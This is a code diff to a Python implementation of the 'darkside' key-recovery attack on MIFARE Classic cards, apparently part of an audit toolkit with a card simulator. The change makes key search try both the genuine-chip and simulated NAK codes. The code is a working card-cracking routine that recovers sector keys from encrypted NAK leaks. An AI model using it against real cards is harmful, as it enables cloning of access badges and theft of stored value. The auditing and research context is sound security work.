@@ -19,13 +19,17 @@ from collections.abc import Callable, Iterable
 
 from audit._crypto1 import darkside_keys
 from audit.m1_attacks import AttackFailed, PrngClass, classify_prng, collect_nonces, try_key
-from cardsim.mifare import NAK, Frame
+from cardsim.mifare import Frame
 from terminals.m1 import FrameSlot, M1Chip, with_crc
 
 VARIANTS = 8  # values of {nR}'s last 3 bits
 FIELD_CYCLES_PER_NONCE = 64  # a genuine chip gives the wanted nT again after ~4 (its timing jitter is 0..3 steps)
 ROUNDS = 3  # {nR} prefixes tried before giving up (each round's search is exhaustive: a miss means bad data)
 _COMMON_PARITY = 0b111  # the parity bits of {nR}'s first 3 bytes: the same for every variant
+# The plaintext of the leaked NAK: a genuine chip answers 0x5 (transmission error; Garcia et al. 2009, section 3.1,
+# and Proxmark3's darkside), the card model (cardsim/mifare.py) answers 0x4. Both are tried: the wrong one
+# explains none of the leaks.
+NAK_CODES = (0x5, 0x4)
 
 
 class _Collector:
@@ -40,7 +44,7 @@ class _Collector:
         self.progress = progress
         self.sent = 0
         self.cycles = 0
-        self.leaks: list[tuple[int, int]] = []  # (NAK keystream, parity byte) by variant
+        self.leaks: list[tuple[int, int]] = []  # (encrypted NAK, parity byte) by variant
         self.nt = self._request()
 
     def _request(self) -> int:
@@ -61,7 +65,7 @@ class _Collector:
 
     def answer(self, data: bytes, parity: int) -> int | None:
         """Send ``data`` ({nR}{aR}, no CRC on air) with these 8 parity bits (bit j: byte j) once the card has
-        given the fixed nT; the NAK's 4 keystream bits, or None when the card stays silent."""
+        given the fixed nT; the encrypted 4-bit NAK, or None when the card stays silent."""
         for _ in range(FIELD_CYCLES_PER_NONCE):
             if self._request() == self.nt:
                 break
@@ -75,7 +79,7 @@ class _Collector:
         reply = self.chip.transceive(Frame(data, tuple((parity >> j) & 1 for j in range(8))))
         if reply is None or reply.bits != 4:
             return None
-        return (reply.data[0] ^ NAK) & 0xF
+        return reply.data[0] & 0xF
 
     def collect(self, nr: int, ar: int) -> None:
         """A leak for each variant: all 256 parity combinations for the first (exactly one gets the NAK), then
@@ -135,7 +139,10 @@ def darkside_attack(
         collector.collect(nr, ar)
         naks, parities = zip(*collector.leaks, strict=True)
         progress("darkside: searching the cipher states that explain the leaks")
-        keys = darkside_keys(uid ^ collector.nt, nr, ar, bytes(naks), bytes(parities))
+        for code in NAK_CODES:
+            keys = darkside_keys(uid ^ collector.nt, nr, ar, bytes(n ^ code for n in naks), bytes(parities))
+            if keys:
+                break
         progress(f"darkside: {len(keys)} candidate key(s), checking them against the card")
         for key in keys:
             if try_key(FrameSlot(chip), block, key, key_type):
